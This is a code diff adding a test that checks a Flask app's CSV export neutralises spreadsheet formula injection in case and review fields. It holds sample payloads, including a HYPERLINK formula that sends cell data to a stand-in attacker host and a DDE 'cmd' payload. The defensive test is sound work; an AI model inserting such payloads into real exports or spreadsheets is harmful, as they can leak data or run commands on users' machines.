@@ -440,3 +440,58 @@ def test_a_newer_photo_marks_the_analysis_outdated_as_the_api_does(
     [row] = list(csv.DictReader(io.StringIO(_export(ai_app, "--format", "csv").stdout)))
     [exported] = json.loads(row["analyses"])
     assert (exported["outdated"], exported["outdated_fields"]) == (True, ["image"])
+
+
+#: Cells a spreadsheet would run as a formula (OWASP "CSV Injection"): = + - @, tab, CR.
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+)
+
+
+def test_csv_cells_that_would_start_a_formula_are_neutralised(
+    ai_app: Flask,
+    ai_client: Any,
+    make_user: Callable[..., Any],
+    make_case: Callable[..., uuid.UUID],
+    api_headers: Any,
+) -> None:
+    from tests.test_api_diagnosis import diagnose
+
+    user = make_user()
+    headers = api_headers(user)
+    references = []
+    for number, formula in enumerate(FORMULAS):
+        case_id = make_case(
+            user, chief_complaint=f"{formula} itch", patient_reference=f"PT-F{number}"
+        )
+        assert diagnose(ai_client, headers, case_id=case_id).status_code == 200
+        review = {"final_diagnosis": formula, "agreement": "differs", "notes": formula}
+        response = ai_client.post(f"/api/cases/{case_id}/review", json=review, headers=headers)
+        assert response.status_code == 200, response.get_json()
+        references.append(f"PT-F{number}")
+    result = _export(ai_app, "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
+    assert [row["patient_reference"] for row in rows] == references
+    for row in rows:
+        for column in exports.CSV_COLUMNS:
+            assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, row[column])
+    # Neutralised by a leading apostrophe (shown by spreadsheets as text), otherwise unchanged;
+    # the stored record and the JSON export keep the text as typed.
+    for row, formula in zip(rows, FORMULAS, strict=True):
+        assert row["chief_complaint"] == f"'{formula} itch"
+        assert row["review_final_diagnosis"] == f"'{formula}"
+    records = json.loads(_export(ai_app, "--format", "json").stdout)
+    assert records[0]["review"]["final_diagnosis"] == FORMULAS[0]
+    # A leading tab or carriage return (the services strip them from these fields, but not
+    # every column is stripped) is neutralised too; numbers are data, kept as they are.
+    cells = exports.csv_row(
+        {**records[0], "patient_reference": "\t=1+1", "body_site": "\r=1+1", "patient_age": -1}
+    )
+    columns = dict(zip(exports.CSV_COLUMNS, cells, strict=True))
+    assert columns["patient_reference"] == "'\t=1+1"
+    assert columns["body_site"] == "'\r=1+1"
+    assert columns["patient_age"] == -1
